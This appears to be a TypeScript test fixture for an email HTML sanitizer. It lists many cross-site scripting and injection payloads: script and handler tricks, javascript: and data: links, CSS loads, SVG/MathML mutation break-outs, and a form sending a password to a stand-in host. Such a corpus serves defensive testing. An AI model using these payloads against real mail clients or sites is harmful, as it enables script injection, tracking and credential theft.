export interface HostileMail {
  readonly id: string
  /** What the sender hopes for. */
  readonly tries: string
  readonly html: string
}

/** Seen from outside: in the console, and on the page around the mail. */
const RUN = "console.log('pwned');try{parent.pwned=1}catch(e){}"
const AWAY = 'http://elsewhere.test'
const b64 = (text: string) => Buffer.from(text).toString('base64')
const mail = (id: string, tries: string, html: string): HostileMail => ({ id, tries, html })

const SCRIPTS: readonly HostileMail[] = [
  mail('script', 'a plain script', `<p>Hi</p><script>${RUN}</script>`),
  mail('script-case', 'a script in mixed case, with a space', `<ScRiPt >${RUN}</sCrIpT >`),
  mail('script-remote', 'a script from elsewhere', `<script src="${AWAY}/x.js"></script>`),
  mail('script-slash', 'a slash where a space is meant', `<script/x>${RUN}</script>`),
  mail('script-unclosed', 'a script that never ends', `<p>Hi<script>${RUN}`),
  mail('script-split', 'what is left after one removal is a script', `<scr<script></script>ipt>${RUN}</script>`),
  mail('script-null', 'a zero byte in the name', `<scr\0ipt>${RUN}</scr\0ipt>`),
  mail('script-module', 'a module', `<script type="module">${RUN}</script>`),
  mail('script-entity', 'a script written in entities', `&lt;script&gt;${RUN}&lt;/script&gt;`),
  mail('script-less-than', 'two signs for one', `<<script>${RUN}//<</script>`),
  mail('script-in-head', 'a script in the head', `<html><head><script>${RUN}</script></head><body>Hi</body></html>`),
  mail('script-after-html', 'a script after the end', `<html><body>Hi</body></html><script>${RUN}</script>`),
  mail('script-cdata', 'a script in a CDATA section', `<![CDATA[<script>${RUN}</script>]]>`),
  mail('script-conditional', 'a conditional comment', `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`),
  mail(
    'script-escape-state',
    'the escaped states of a script',
    `<script><!--<script></script>--><img src=x onerror="${RUN}"></script>`,
  ),
]

const HANDLERS: readonly HostileMail[] = [
  mail('img-onerror', 'a handler on an image that fails', `<img src=x onerror="${RUN}">`),
  mail(
    'img-onload',
    'a handler on an image that loads',
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${RUN}" onerror="${RUN}">`,
  ),
  mail('img-no-quotes', 'a handler without quotes', `<img src=x onerror=${RUN.replaceAll(' ', '')}>`),
  mail('img-slashes', 'slashes between attributes', `<img/src="x"/onerror="${RUN}">`),
  mail('img-broken-quotes', 'quotes that do not match', `<img """><script>${RUN}</script>">`),
  mail('img-backtick', 'grave accents as quotes', `<img src=\`x\` onerror="${RUN}">`),
  mail('img-upper', 'upper case', `<IMG SRC=x ONERROR="${RUN}">`),
  mail(
    'img-entity-handler',
    'a handler written in entities',
    '<img src=x onerror="&#112;arent.pwned=1;&#99;onsole.log(&apos;pwned&apos;)">',
  ),
  mail('body-onload', 'a handler on the body', `<body onload="${RUN}">Hi</body>`),
  mail('second-body', 'a handler on a second body', `<body><p>Hi<body onload="${RUN}" onpageshow="${RUN}">`),
  mail(
    'div-pointer',
    'handlers that wait for the pointer',
    `<div onmouseover="${RUN}" onpointerenter="${RUN}" style="width:600px;height:600px">Hi</div>`,
  ),
  mail(
    'focus-auto',
    'a handler that gives itself the focus',
    `<a href="#x" id=x autofocus tabindex=0 onfocus="${RUN}">x</a><div contenteditable autofocus onfocus="${RUN}">y</div>`,
  ),
  mail(
    'animation-handler',
    'a handler for the start of an animation',
    `<style>@keyframes a{from{color:red}}div{animation:a 1s}</style><div onanimationstart="${RUN}">x</div>`,
  ),
  mail('details-toggle', 'a handler for opening', `<details open ontoggle="${RUN}"><summary>x</summary>y</details>`),
  mail('marquee-start', 'a handler for the start of a marquee', `<marquee onstart="${RUN}">Hi</marquee>`),
  mail(
    'video-error',
    'a handler on a source',
    `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  ),
  mail('attribute-newline', 'a line feed before the equals sign', `<img src=x onerror\n=\n"${RUN}">`),
  mail('attribute-form-feed', 'a form feed between attributes', `<img\fsrc=x\fonerror="${RUN}">`),
  mail(
    'popover',
    'a handler for a popover',
    `<div popover id=p onbeforetoggle="${RUN}">x</div><button popovertarget=p autofocus>y</button>`,
  ),
]

const ADDRESSES: readonly HostileMail[] = [
  mail('link-javascript', 'a link that is a script', `<a href="javascript:${RUN}">x</a>`),
  mail('link-entities', 'the same in entities', '<a href="&#x6A;&#97;vascript&colon;parent.pwned=1">x</a>'),
  mail(
    'link-long-entities',
    'the same in entities with zeros and no end',
    '<a href="&#0000106&#0000097&#0000118ascript:parent.pwned=1">x</a>',
  ),
  mail('link-tab', 'the same with tabs and line feeds inside', '<a href="jav&#x09;ascr\nipt:parent.pwned=1">x</a>'),
  mail('link-control', 'the same after control characters', '<a href="\x01&#14; javascript:parent.pwned=1">x</a>'),
  mail('link-case', 'the same in mixed case', '<a href="JaVaScRiPt:parent.pwned=1">x</a>'),
  mail('link-vbscript', 'an old script language', '<a href="vbscript:msgbox(1)">x</a>'),
  mail(
    'link-data',
    'a link that is a document',
    `<a href="data:text/html;base64,${b64(`<script>${RUN}</script>`)}">x</a>`,
  ),
  mail(
    'link-blob',
    'a link to what the page has made',
    '<a href="blob:http://127.0.0.1/x">x</a><a href="filesystem:http://127.0.0.1/x">y</a>',
  ),
  mail('link-target', 'a link that takes over the page around', `<a href="${AWAY}/" target="_top">x</a>`),
  mail('link-ping', 'a link that reports', `<a href="#a" ping="${AWAY}/ping">x</a>`),
  mail(
    'img-javascript',
    'an image that is a script',
    '<img src="javascript:parent.pwned=1"><img src="&#106;avascript:parent.pwned=1">',
  ),
  mail(
    'img-data-svg',
    'an image that is a document',
    `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)}">`,
  ),
  mail('base', 'another base for every address', `<base href="${AWAY}/"><a href="x">x</a><img src="pixel.png">`),
  mail('base-script', 'a base that is a script', '<base href="javascript:parent.pwned=1//"><a href="x">x</a>'),
  mail('meta-refresh', 'a reload to elsewhere', `<meta http-equiv="refresh" content="0;url=${AWAY}/">Hi`),
  mail(
    'meta-refresh-data',
    'a reload to a document',
    `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${RUN}</script>">`,
  ),
  mail('meta-charset', 'another charset', '<meta charset="utf-7">+ADw-script+AD4-parent.pwned=1+ADw-/script+AD4-'),
]

const LOADING: readonly HostileMail[] = [
  mail('pixel', 'a tracking pixel', `<img src="${AWAY}/p.gif" width=1 height=1>`),
  mail(
    'srcset',
    'an image by srcset',
    `<img srcset="${AWAY}/a.png 1x, ${AWAY}/b.png 2x"><picture><source srcset="${AWAY}/c.png"><img src=x></picture>`,
  ),
  mail(
    'protocol-relative',
    'an image without a scheme',
    '<img src="//elsewhere.test/p.gif"><img src="/\\elsewhere.test/p.gif"><img src="\\\\elsewhere.test\\p.gif">',
  ),
  mail(
    'own-server',
    'a request to our own server',
    '<img src="/v1/inboxes"><img src="../../secret"><img src="?x"><img src="">',
  ),
  mail(
    'old-attributes',
    'images by old attributes',
    `<table background="${AWAY}/a.gif"><tr><td background="${AWAY}/b.gif" dynsrc="${AWAY}/c" lowsrc="${AWAY}/d">x</td></tr></table><body background="${AWAY}/e.gif">`,
  ),
  mail(
    'link-stylesheet',
    'a style sheet from elsewhere',
    `<link rel="stylesheet" href="${AWAY}/x.css"><link rel="preload" as="image" href="${AWAY}/y"><link rel="prefetch" href="${AWAY}/z">`,
  ),
  mail(
    'link-hints',
    'a look-up of a host',
    `<link rel="dns-prefetch" href="${AWAY}"><link rel="preconnect" href="${AWAY}"><link rel="icon" href="${AWAY}/i.png">`,
  ),
  mail('iframe', 'a frame', `<iframe src="${AWAY}/"></iframe><iframe src="javascript:parent.pwned=1"></iframe>`),
  mail(
    'iframe-srcdoc',
    'a frame with its own document',
    `<iframe srcdoc="<script>${RUN.replaceAll("'", '&apos;')};top.pwned=1</script>"></iframe>`,
  ),
  mail('frameset', 'frames in place of the body', `<frameset onload="${RUN}"><frame src="${AWAY}/"></frameset>`),
  mail(
    'object',
    'objects',
    `<object data="${AWAY}/x.swf"></object><object data="data:text/html,<script>${RUN}</script>"></object><embed src="${AWAY}/y"><applet code="${AWAY}/z"></applet>`,
  ),
  mail(
    'media',
    'sound, film and their captions',
    `<video src="${AWAY}/v" poster="${AWAY}/p" autoplay></video><audio src="${AWAY}/a" autoplay></audio><video><track src="${AWAY}/t" default></video>`,
  ),
  mail(
    'form',
    'a form that sends itself',
    `<form action="${AWAY}/steal" id=f><input name=password value=x><input type=image src="${AWAY}/i.png"><button autofocus formaction="javascript:parent.pwned=1">Log in</button></form><script>f.submit()</script>`,
  ),
  mail(
    'form-outside',
    'a control that belongs to a form elsewhere',
    `<input form=login formaction="${AWAY}/" type=submit><textarea name=a></textarea><select><option>1</select><isindex action="${AWAY}/">`,
  ),
  mail(
    'portal',
    'new ways to embed',
    `<portal src="${AWAY}/"></portal><fencedframe src="${AWAY}/"></fencedframe><webview src="${AWAY}/"></webview>`,
  ),
  mail(
    'cite',
    'attributes that name a document',
    `<blockquote cite="${AWAY}/q">x</blockquote><html manifest="${AWAY}/m"><head profile="${AWAY}/p">`,
  ),
  mail(
    'bgsound',
    'a sound in the background',
    `<bgsound src="${AWAY}/s.mid"><image src="${AWAY}/i.png"><xml src="${AWAY}/x">`,
  ),
  mail(
    'speculation',
    'rules for fetching ahead',
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${AWAY}/"]}]}</script>`,
  ),
]

const STYLES: readonly HostileMail[] = [
  mail(
    'css-background',
    'a background from elsewhere',
    `<div style="background:red url(${AWAY}/b.png) no-repeat">x</div><div style="background-image:url('${AWAY}/c.png')">y</div>`,
  ),
  mail(
    'css-escape',
    'the same with escapes',
    `<div style="background:\\75 rl(${AWAY}/e1)">x</div><div style="b\\61 ckground-image:u\\r\\l('${AWAY}/e2')">y</div>`,
  ),
  mail(
    'css-comment',
    'the same with comments',
    `<div style="background:u/**/rl(${AWAY}/k1);background-image:url/**/(${AWAY}/k2)">x</div>`,
  ),
  mail(
    'css-image-set',
    'other functions that load',
    `<div style="background-image:image-set('${AWAY}/s1' 1x);background-image:-webkit-image-set(url(${AWAY}/s2) 1x);background:cross-fade(url(${AWAY}/s3),red)">x</div>`,
  ),
  mail(
    'css-properties',
    'other properties that load',
    `<ul style="list-style-image:url(${AWAY}/l)"><li style="list-style:url(${AWAY}/m)">x</ul><p style="cursor:url(${AWAY}/c),auto;border-image:url(${AWAY}/i) 1;content:url(${AWAY}/t);mask:url(${AWAY}/n);filter:url(${AWAY}/f#x);shape-outside:url(${AWAY}/o)">x`,
  ),
  mail(
    'css-variable',
    'an address by way of a variable',
    `<div style="--a:url(${AWAY}/v);background:var(--a)">x</div>`,
  ),
  mail(
    'css-import',
    'a style sheet from elsewhere',
    `<style>@import '${AWAY}/a.css';@import url(${AWAY}/b.css);@\\69mport '${AWAY}/c.css';</style><style>@charset "x";@namespace url(${AWAY}/n);p{color:red}</style>`,
  ),
  mail(
    'css-font',
    'a font from elsewhere',
    `<style>@font-face{font-family:x;src:url(${AWAY}/f.woff)}p{font-family:x}</style><p>x</p>`,
  ),
  mail(
    'css-expression',
    'a script in a style',
    `<div style="width:expression(${RUN});behavior:url(#default#time2);-moz-binding:url(${AWAY}/x.xml#y)">x</div>`,
  ),
  mail(
    'css-javascript',
    'an address that is a script',
    '<div style="background-image:url(javascript:parent.pwned=1)">x</div>',
  ),
  mail(
    'css-fixed',
    'a cover over everything',
    `<a href="${AWAY}/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;opacity:0">x</a><div style="position:\\66ixed;inset:0">y</div><div style="POSITION:sticky;top:0">z</div>`,
  ),
  mail(
    'css-close-style',
    'a style that ends early',
    `<style>p{color:red}</style\n><img src=x onerror="${RUN}"></style>`,
  ),
  mail(
    'css-string-close',
    'a string that holds the end of the style',
    `<style>p{font-family:"</style><img src=x onerror=&quot;${RUN}&quot;>"}</style>`,
  ),
  mail(
    'css-comment-close',
    'a comment that holds the end of the style',
    `<style><!--</style><img src=x title="--></style><img src=x onerror='${RUN.replaceAll("'", '`')}'>"></style>`,
  ),
  mail(
    'css-attribute-leak',
    'telling a value by its selector',
    `<style>a[href^="http"]{background:url(${AWAY}/leak)} input[value^=a]{background:url(${AWAY}/a)} p::before{content:url(${AWAY}/before)}</style><a href="http://a.test">x</a><p>y</p>`,
  ),
  mail(
    'css-media-nested',
    'a rule hidden in rules',
    `<style>@media screen{@import '${AWAY}/x';p{background:url(${AWAY}/m)}}@supports(color:red){p{background:url(${AWAY}/s)}}@layer a{p{background:url(${AWAY}/l)}}</style><p>x</p>`,
  ),
  mail('css-unclosed', 'what is never closed', `<style>p{color:red;background:url("${AWAY}/u`),
  mail(
    'css-nesting',
    'a rule inside a rule',
    `<style>div{color:red;& p{background:url(${AWAY}/n)} p{background:url(${AWAY}/o)}}</style><div><p>x</p></div>`,
  ),
]

const MUTATIONS: readonly HostileMail[] = [
  mail('svg-onload', 'a drawing with a handler', `<svg onload="${RUN}"></svg><svg/onload="${RUN}">`),
  mail('svg-script', 'a script in a drawing', `<svg><script>${RUN}</script><script href="data:,${RUN}"/></svg>`),
  mail(
    'svg-animate',
    'a link that a drawing sets',
    '<svg><a><animate attributeName=href values="javascript:parent.pwned=1"/><text y=20>x</text></a></svg>',
  ),
  mail(
    'svg-foreign',
    'HTML in a drawing',
    `<svg><foreignObject><body onload="${RUN}"><iframe src="javascript:parent.pwned=1"></iframe></foreignObject></svg>`,
  ),
  mail(
    'svg-use',
    'a drawing from elsewhere',
    `<svg><use href="${AWAY}/s.svg#x"/><image href="${AWAY}/i.png"/><feImage href="${AWAY}/f"/></svg>`,
  ),
  mail('svg-style', 'style is no raw text in a drawing', `<svg><style><img src=x onerror="${RUN}"></style></svg>`),
  mail('svg-title', 'a title in a drawing', `<svg><p><title><style></title><img src=x onerror="${RUN}"></style>`),
  mail(
    'svg-break-out',
    'out of a drawing by a paragraph',
    `<svg></p><style><a id="</style><img src=x onerror='${RUN.replaceAll("'", '`')}'>">`,
  ),
  mail(
    'math-namespace',
    'a style that changes its namespace',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=parent.pwned=1&gt;">`,
  ),
  mail(
    'math-form',
    'nested forms that move a node',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  ),
  mail(
    'math-link',
    'a link in a formula',
    '<math href="javascript:parent.pwned=1"><maction actiontype="statusline" xlink:href="javascript:parent.pwned=1">x</maction></math>',
  ),
  mail(
    'noscript',
    'text here, markup there',
    `<noscript><p title="</noscript><img src=x onerror='${RUN.replaceAll("'", '`')}'>"></noscript>`,
  ),
  mail(
    'template',
    'a template, and a shadow root',
    `<template><script>${RUN}</script></template><div><template shadowrootmode=open><img src=x onerror="${RUN}"></template></div>`,
  ),
  mail(
    'textarea',
    'the end of a text field in an attribute',
    `<textarea><img title="</textarea><img src=x onerror='${RUN.replaceAll("'", '`')}'>"></textarea>`,
  ),
  mail(
    'title',
    'the end of a title in an attribute',
    `<title><a title="</title><img src=x onerror='${RUN.replaceAll("'", '`')}'>"></title>`,
  ),
  mail(
    'xmp',
    'the end of an example in an attribute',
    `<xmp><p title="</xmp><svg/onload='${RUN.replaceAll("'", '`')}'>"></xmp>`,
  ),
  mail(
    'noembed',
    'raw text of other names',
    `<noembed><p title="</noembed><img src=x onerror='${RUN.replaceAll("'", '`')}'>"></noembed><noframes><p title="</noframes><img src=x onerror='${RUN.replaceAll("'", '`')}'>">`,
  ),
  mail('plaintext', 'plain text to the end', `Hi<plaintext><img src=x onerror="${RUN}">`),
  mail(
    'comment-ends',
    'comments that end where few expect',
    `<!--><img src=x onerror="${RUN}">--><!---><img src=x onerror="${RUN}">--><!-- --!><img src=x onerror="${RUN}">-->`,
  ),
  mail(
    'processing',
    'a processing instruction',
    `<?xml version="1.0"?><?xml-stylesheet href="${AWAY}/x.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "${AWAY}/e">]>&e;`,
  ),
  mail(
    'table-foster',
    'what a browser moves out of a table',
    `<table><img src=x onerror="${RUN}"><script>${RUN}</script><tr><div onclick="${RUN}">x`,
  ),
  mail('unclosed-tag', 'a tag that swallows what follows', `<p>Hi<img src="${AWAY}/?`),
  mail('unclosed-attribute', 'an attribute that swallows what follows', `<a href='${AWAY}/?x=`),
  mail(
    'end-tags',
    'the end of everything around',
    `</div></div></td></table></body></html></iframe></style></script><script>${RUN}</script>`,
  ),
  mail(
    'clobber',
    'names that scripts look up',
    '<img name=cookie><form id=document><input name=body></form><a id=location href="http://elsewhere.test"></a><a id=pwned name=parent></a>',
  ),
  mail(
    'custom-element',
    'an element that is somebody’s',
    `<x-login is="a-b" slot=c part=d onclick="${RUN}">x</x-login><p is="x-y" nonce=z>y</p>`,
  ),
  mail(
    'prototype',
    'names that objects have',
    '<constructor onclick=a></constructor><p constructor=x __proto__=y toString=z hasOwnProperty=w>x</p><__proto__>y',
  ),
  mail('surrogates', 'half a character', `<p title="\ud800">\udc00<img src="\udfff" onerror="${RUN}">`),
]

export const HOSTILE_MAILS: readonly HostileMail[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...LOADING,
  ...STYLES,
  ...MUTATIONS,
]
